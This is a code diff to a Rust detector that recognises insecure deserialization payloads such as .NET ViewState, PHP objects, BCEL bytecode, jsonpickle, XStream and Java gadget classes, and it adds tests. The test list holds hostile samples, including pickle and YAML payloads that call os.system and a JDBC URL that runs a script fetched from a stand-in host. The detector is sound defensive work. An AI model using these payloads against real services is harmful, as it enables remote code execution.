@@ -91,7 +91,9 @@ pub(super) fn look(input: &Input<'_>) -> Signs {
         signs.note(CONNECTS, connects(text));
     }
     if marks.has(Marks::DOLLAR.and(Marks::LETTER)) {
-        signs.note(BYTECODE, memchr::memmem::find(text, b"$$BCEL$$").is_some());
+        let is_class = memchr::memmem::find(text, b"$$BCEL$$$").is_some();
+        signs.note(BYTECODE, is_class);
+        signs.note(GADGET, is_class);
     }
     if marks.has(Marks::COLON.and(Marks::DOUBLE_QUOTE).and(Marks::DIGIT)) {
         look_at_php(text, &mut signs);
@@ -105,6 +107,12 @@ pub(super) fn look(input: &Input<'_>) -> Signs {
     if marks.has(Marks::UNDERSCORE) && marks.has_any(Marks::DOLLAR.and(Marks::BRACE)) {
         signs.note(NODE, memchr::memmem::find(text, b"_$$ND_FUNC$$_").is_some());
         signs.note(CLASS, memchr::memmem::find(text, b"\"__js_function\"").is_some());
+    }
+    if marks.has(Marks::BRACE.and(Marks::SLASH).and(Marks::DOUBLE_QUOTE)) {
+        let makes: [&[u8]; 2] = [b"\"py/object\"", b"\"py/reduce\""];
+        let is_python = makes.iter().any(|it| memchr::memmem::find(text, it).is_some());
+        signs.note(CLASS, is_python);
+        signs.note(TYPE, is_python && text.len() <= 512);
     }
     if marks.has(Marks::DOT.and(Marks::LETTER)) {
         look_at_classes(text, marks, &mut signs);
@@ -140,7 +148,15 @@ fn look_at_front(text: &[u8], signs: &mut Signs) {
     let is_dotnet = text.starts_with(b"AAEAAAD/////")
         || text.starts_with(b"\0\x01\0\0\0\xFF\xFF\xFF\xFF")
         || starts(text, b"0001000000ffffffff");
-    signs.note(DOTNET, is_dotnet);
+    // A view state that is such an object: the three ways in which its front can be written.
+    let fronts: [&[u8]; 3] = [b"AAEAAAD/////", b"ABAAAA/////w", b"AAQAAAP////8"];
+    let is_state = text.starts_with(b"/wE")
+        && fronts.iter().any(|it| memchr::memmem::find(head(text, 64), it).is_some());
+    signs.note(DOTNET, is_dotnet || is_state);
+    if matches!(text, [b'T' | b'Q' | b'R', b'z', b'o', ..]) {
+        let decoded = decoded(head(text, 16));
+        signs.note(PHP, matches!(decoded.trim_ascii_end(), [b'O' | b'C' | b'E', b':', b'0'..=b'9', rest @ ..] if rest.contains(&b'"')));
+    }
     signs.note(BYTECODE, text.starts_with(b"yv66vg") || starts(text, b"cafebabe0000"));
     signs.note(
         STATE,
@@ -180,6 +196,30 @@ fn look_at_front(text: &[u8], signs: &mut Signs) {
         PICKLE,
         matches!(text, [0x80, 2..=5, b'c' | 0x95 | b'}' | b'(' | b']', ..]) && text.ends_with(b"."),
     );
+}
+
+/// From Base64, as far as it is.
+fn decoded(text: &[u8]) -> Vec<u8> {
+    let mut bits = 0_u32;
+    let mut count = 0;
+    let mut bytes = Vec::with_capacity(12);
+    for &letter in text {
+        let value = match letter {
+            b'A'..=b'Z' => letter - b'A',
+            b'a'..=b'z' => letter - b'a' + 26,
+            b'0'..=b'9' => letter - b'0' + 52,
+            b'+' | b'-' => 62,
+            b'/' | b'_' => 63,
+            _ => break,
+        };
+        bits = bits << 6 & 0xFF_FFFF | u32::from(value);
+        count += 6;
+        if count >= 8 {
+            count -= 8;
+            bytes.extend(u8::try_from(bits >> count & 0xFF));
+        }
+    }
+    bytes
 }
 
 /// `O:4:"Name":1:{`.
@@ -278,6 +318,16 @@ fn look_at_classes(text: &[u8], marks: Marks, signs: &mut Signs) {
     if !may {
         return;
     }
+    if marks.has(Marks::COLON.and(Marks::DOUBLE_QUOTE).and(Marks::AT)) {
+        let is_typed = names_java(text);
+        signs.note(CLASS, is_typed);
+        signs.note(TYPE, is_typed);
+    }
+    if marks.has(Marks::LESS.and(Marks::EQUALS)) {
+        // Only a reader of objects knows these.
+        let custom: [&[u8]; 2] = [b"serialization=\"custom\"", b"<unserializable-parents"];
+        signs.note(DECODER, custom.iter().any(|it| memchr::memmem::find(text, it).is_some()));
+    }
     let Some(at) = gadget(text) else { return };
     let begins = text
         .iter()
@@ -342,6 +392,24 @@ fn look_at_classes(text: &[u8], marks: Marks, signs: &mut Signs) {
     signs.note(TOOL, has_any(text, &[b"ysoserial", b"phpggc"]));
 }
 
+/// `"@type": "java.net.Inet4Address"`: the name of a class and not of a concept.
+fn names_java(text: &[u8]) -> bool {
+    const PACKAGES: &[&[u8]] = &[
+        b"java.", b"javax.", b"com.sun.", b"org.apache.", b"sun.", b"org.springframework.",
+        b"com.mchange.", b"com.zaxxer.", b"ch.qos.", b"oracle.",
+    ];
+    memchr::memchr_iter(b'@', text).take(PLACES_MAX).any(|at| {
+        let rest = from(text, at + 1);
+        let Some(rest) = rest.strip_prefix(b"type\"").or_else(|| rest.strip_prefix(b"class\""))
+        else {
+            return false;
+        };
+        let rest = rest.trim_ascii_start().strip_prefix(b":").unwrap_or(rest).trim_ascii_start();
+        let name = rest.strip_prefix(b"\"").unwrap_or(rest);
+        PACKAGES.iter().any(|it| name.starts_with(it))
+    })
+}
+
 /// Where a class is named, at its last name, that is made because something happens when it is made.
 fn gadget(text: &[u8]) -> Option<usize> {
     memchr::memchr3_iter(b'.', b'<', b'"', text).take(PLACES_MAX).find_map(|at| {
@@ -360,7 +428,8 @@ fn gadget(text: &[u8]) -> Option<usize> {
                 || PACKAGES
                     .iter()
                     .any(|(package, class)| name.eq_ignore_ascii_case(class) && is_of(package))
-                || starts(name, b"expandedwrapper"));
+                || starts(name, b"expandedwrapper")
+                || starts(name, b"jndi"));
         let start = before
             .iter()
             .rev()
@@ -439,6 +508,11 @@ mod tests {
                 "aced0005737200116a6176612e7574696c",
                 "cos\nsystem\n(S'id'\ntR.",
                 "AAEAAAD/////AQAAAAAAAAAMAgAAAElT",
+                "/wEyxBEAAQAAAP////8BAAAAAAAAAAwCAAAA",
+                "Tzo0OiJFdmlsIjowOnt9",
+                "$$BCEL$$$l$8b$I$A$A",
+                "<java.util.PriorityQueue serialization=\"custom\"><a.b/></java.util.PriorityQueue>",
+                "[\"ch.qos.logback.core.db.JNDIConnectionSource\",{\"x\":1}]",
                 "{\"a\":\"_$$ND_FUNC$$_function(){}()\"}",
                 "!!python/object/apply:os.system [\"id\"]",
                 "jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://e.example/x.sql'",
